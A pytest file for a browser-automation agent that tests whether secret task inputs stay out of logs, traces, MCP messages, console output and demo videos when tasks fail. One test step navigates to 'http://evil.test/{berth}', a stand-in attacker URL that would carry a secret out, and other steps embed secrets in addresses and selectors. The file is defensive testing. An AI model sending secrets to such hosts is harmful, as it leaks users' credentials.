"""A secret is in no byte of what a run leaves behind, says or sends, whatever goes wrong on the way."""

from __future__ import annotations

import io
import json
import shutil
from contextlib import nullcontext
from pathlib import Path

import pytest
from mcp import Client
from rich.console import Console

from agent.execution import step_runner
from agent.execution.task_runner import TaskRunner
from agent.healing.healer import HealPolicy
from agent.page.errors import PageError
from agent.redaction import Secrets
from agent.run_records.run_log import build_task_ending
from agent.run_records.session_trace import SessionTrace
from kb_schema import parse_document
from kb_schema.resilience_policy import ResiliencePolicy
from kb_store.store_factory import open_runs
from periplus.agent_failures import to_user_error
from periplus.demos.filmed_demo import DemoSettings, run_demo
from periplus.errors import report_error
from periplus.run_store_adapters import RunStoreKeeping, end_run_record, record_run
from periplus.seed_sites.seed_manifests import find_seed
from periplus.terminal.live_view import RunLiveView
from tests.support import warm
from tests.support.leaks import leaks, spelt

pytestmark = pytest.mark.sampled(0.5)

HARBOUR = Path(__file__).parent.parent / "data" / "harbour"
SECRET = 'O\'Brien "Bob" & <pass/wörd> 1'
PLAIN = "correct-horse-battery-9"
BOTH = {"the hard one": SECRET, "the plain one": PLAIN}


@pytest.fixture
def said(monkeypatch):
    """Every MCP message of the agent and every answer, as JSON."""
    messages: list[str] = []
    call = Client.call_tool

    async def recorded_call(self, name, arguments=None, *args, **kwargs):
        messages.append(json.dumps([name, arguments], default=str, ensure_ascii=False))
        answer = await call(self, name, arguments, *args, **kwargs)
        messages.append(answer.model_dump_json())
        return answer

    monkeypatch.setattr(Client, "call_tool", recorded_call)
    return messages


def _task(task_id, *steps, outputs=()):
    inputs = [
        {"name": "berth", "secret": True},
        {"name": "pin", "secret": True, "transforms": [{"type": "concat", "prefix": "pin:"}]},
        {"name": "shown", "required": False},
    ]
    return {
        "type": "task", "task_id": task_id, "name": task_id, "steps": list(steps),
        "io_spec": {"inputs": inputs, "outputs": list(outputs)},
    }  # fmt: skip


def _step(step_id, action, target=None, value=None, **more):
    call = {"action_type": action} | ({"target": target} if target else {})
    call |= {"value": value} if value is not None else {}
    return {"step_id": step_id, "action": call | more.pop("call", {}), **more}


TO_FORM = {"step_id": "go", "action": {"action_type": "navigate", "target_screen": "boat_new"}}
FAILING = {
    "contradicted": _step(
        "contradicted", "hover", "#moor",
        postconditions=[{"type": "field_has_value", "field_id": "name_field", "value": "no {berth}", "timeout": 0.1}],
    ),
    "not on the page": _step(
        "missing", "hover", "#moor",
        postconditions=[{"type": "dom_contains", "value": "{berth} {pin}", "selector": "h1", "timeout": 0.1}],
    ),
    "a selector": _step("selector", "click", "[title='{berth}']"),
    "a choice": _step("choice", "select_option", "length_list", "{berth}"),
    "a file": _step("file", "upload_file", "#name", "{berth}"),
    "an address": _step("address", "navigate", call={"url": "/fog?q={berth}&p={pin}"}, postconditions=[{"type": "title_contains", "value": "{pin}", "timeout": 0.1}]),
    "keys": _step("keys", "press", "#name", "{pin}"),
    "a foreign site": _step("foreign", "navigate", call={"url": "http://evil.test/{berth}"}),
}  # fmt: skip


async def _fails_in_every_way(session, out, data, console):
    """Tasks with secrets, in fields that show them, failing at each of them; what they came to."""
    session.healing = HealPolicy(max_rounds=0, gate_s=0.3)
    session.resilience = ResiliencePolicy(enable_replanning=False, max_retries=0)
    results = []
    session.bus.listen(RunLiveView(console, "secrets"))
    trace = SessionTrace(out / "session", website_id="harbour", context=session.context)
    session.bus.listen(trace, pages=True)
    fill = _step("fill", "fill", "name_field", "{berth}")
    tasks = {
        name.replace(" ", "_"): _task(name.replace(" ", "_"), TO_FORM, fill, last)
        for name, last in FAILING.items()
    }
    moor = _step("moor", "click", "moor", postconditions=[{"type": "on_screen", "screen_id": "quay"}])
    tasks["done"] = _task(
        "done", TO_FORM, fill, moor,
        outputs=[
            {"name": "name", "extraction": {"method": "dom_extraction", "selector": "tr.boat:last-child td.name"}},
            {"name": "rows", "extraction": {"method": "table_extraction", "selector": "tr.boat", "columns": {"n": "td.name"}}},
        ],
    )  # fmt: skip
    async with (
        open_runs(data) as runs,
        record_run(nullcontext(runs), session, kind="task", subject="s") as log,
    ):
        for name, task in tasks.items():
            document = parse_document(task)
            session.knowledge._documents[document.kind, document.local_id] = document
            engine = TaskRunner(session, keeping=RunStoreKeeping(runs))
            try:
                result = await engine.run_task(
                    name, {"berth": SECRET, "pin": PLAIN, "shown": f"see {SECRET}"}
                )
            except PageError as exc:
                report_error(to_user_error(exc, session.context), console)
                continue
            results.append(result)
            console.print(result.model_dump_json(indent=2), markup=False)
            (out / f"{name}.json").write_text(result.model_dump_json(indent=2), encoding="utf-8")
        trace.close((await session.snapshot()).html, complete=True)
        await end_run_record(log, build_task_ending(results[-1]), {"session/": ("trace", out / "session")})
    return results


@pytest.fixture
def hasty(monkeypatch):
    """Everything here fails on purpose: it is given up at once."""
    monkeypatch.setattr(step_runner, "CONFIRM_S", 0.2)


@pytest.mark.usefixtures("hasty")
async def test_a_secret_in_fields_that_show_it_is_nowhere_however_the_tasks_fail(
    session, site, tmp_path, said
):
    out, data, console = tmp_path / "out", tmp_path / "data", Console(file=io.StringIO(), width=4_000)
    results = await _fails_in_every_way(session, out, data, console)
    assert not any(result.succeeded for result in results[:-1])
    assert results[-1].complete, results[-1].error
    assert site.state()["boats"][-1]["name"] == SECRET, "it was really used"
    assert len(said) > 20
    assert leaks(BOTH, out, data, *said, console.file.getvalue()) == []


@pytest.mark.usefixtures("hasty")
async def test_the_search_for_secrets_finds_them_where_nothing_takes_them_out(
    session, tmp_path, said, monkeypatch
):
    monkeypatch.setattr(Secrets, "redact", lambda _self, data: data)
    out, data, console = tmp_path / "out", tmp_path / "data", Console(file=io.StringIO(), width=4_000)
    monkeypatch.setitem(globals(), "FAILING", {})
    await _fails_in_every_way(session, out, data, console)
    for place in (out, data, "\n".join(said), console.file.getvalue()):
        assert leaks(BOTH, place)


def test_the_search_for_secrets_knows_every_spelling(tmp_path):
    for number, form in enumerate(spelt(SECRET).values()):
        (tmp_path / f"{number}").write_bytes(b"before " + form + b" after")
        assert leaks({"it": SECRET}, tmp_path / f"{number}")
    assert leaks({"it": SECRET}, b"O'Brien was here", "pass/w") == []


def _harbour(tmp_path):
    """The harbour, its boats' names being secret."""
    folder = tmp_path / "harbour"
    shutil.copytree(HARBOUR, folder)
    path = folder / "kb" / "tasks" / "register_boat.yaml"
    text = path.read_text()
    assert "{name: boat_name, desc" in text
    path.write_text(text.replace("{name: boat_name, desc", "{name: boat_name, secret: true, desc"))
    return folder


def test_a_command_that_fails_leaves_and_says_no_secret(site, tmp_path):
    folder, data = _harbour(tmp_path), tmp_path / "data"
    env = {
        "COLUMNS": "4000", "PERIPLUS_DATA_DIR": str(data), "PERIPLUS_SECRET_HARBOUR_BOAT_NAME": SECRET,
    }  # fmt: skip

    def periplus(*arguments):
        done = warm.run("periplus", *arguments, cwd=tmp_path, env=env, timeout=110)
        return done, done.stdout + done.stderr

    path = folder / "kb" / "tasks" / "register_boat.yaml"
    path.write_text(
        path.read_text().replace("secret: true,", "secret: true, transforms: [{type: add_days, value: 1}],")
    )
    assert periplus("kb", "load", str(folder / "kb"))[0].returncode == 0
    failed, told = periplus(
        "run", "register_boat", "--base-url", site.url, "--headless", "--out", "o", "--json"
    )
    assert failed.returncode == 3, told
    assert "expected a date" in told, "the secret came from the environment, and is told about"
    shown = periplus("runs", "show", "last")[1]
    assert leaks(BOTH, tmp_path / "o", data, told, shown) == []


@pytest.mark.usefixtures("ffmpeg")
async def test_a_demo_leaves_and_says_no_secret(site, tmp_path, said, monkeypatch):
    folder, console = _harbour(tmp_path), Console(file=io.StringIO(), width=4_000)
    flow = folder / "kb" / "flows" / "harbour_tour.yaml"
    text = flow.read_text()
    mapped = "      boat_name: {source: hardcoded, value: seagull, persist_as: demo_boat, transforms: [{type: capitalize}]}"
    assert f"    input_mapping:\n{mapped}\n" in text
    flow.write_text(text.replace(f"    input_mapping:\n{mapped}\n", ""))
    monkeypatch.setenv("PERIPLUS_SECRET_HARBOUR_BOAT_NAME", SECRET)
    result = await run_demo(
        find_seed(str(folder)), DemoSettings(speed=0, headed=False, base_url=site.url),
        data_dir=tmp_path / "data", out=tmp_path / "out", console=console,
    )  # fmt: skip
    assert result.presentation.succeeded
    assert site.state()["boats"][-1]["name"] == SECRET
    assert (tmp_path / "out" / "demo.mp4").is_file()
    assert leaks({"it": SECRET}, tmp_path / "out", tmp_path / "data", *said, console.file.getvalue()) == []


async def test_what_a_secret_leads_to_is_not_remembered(session, site, tmp_path):
    site.moor(SECRET)
    task = _task(
        "t", {"step_id": "go", "action": {"action_type": "navigate", "target_screen": "quay"}},
        _step(
            "hover", "hover", "tr:has-text('{berth}') button",
            postconditions=[{"type": "on_screen", "screen_id": "quay"}],
        ),
    )  # fmt: skip
    document = parse_document(task)
    session.knowledge.know(document)
    async with (
        open_runs(tmp_path) as runs,
        record_run(nullcontext(runs), session, kind="task", subject="s") as log,
    ):
        result = await TaskRunner(session, keeping=RunStoreKeeping(runs)).run_task(
            "t", {"berth": SECRET, "pin": PLAIN}
        )
        await end_run_record(log, build_task_ending(result), {})
    assert result.complete, result.error
    assert not session.memory._known
    assert leaks(BOTH, tmp_path) == []


@pytest.mark.usefixtures("hasty")
@pytest.mark.parametrize("action", ["navigate", "press"])
async def test_a_secret_stands_in_no_address(session, action):
    session.resilience = ResiliencePolicy(enable_replanning=False, max_retries=0)
    call = {"url": "/fog?to={berth}"} if action == "navigate" else {"target": "#name", "value": "{berth}"}
    session.knowledge.know(parse_document(_task("away", TO_FORM, _step("away", action, call=call))))
    result = await TaskRunner(session).run_task("away", {"berth": SECRET, "pin": PLAIN})
    assert not result.succeeded
    assert "{berth} has a secret" in str(result.error)
    assert "fog" not in session.page.url
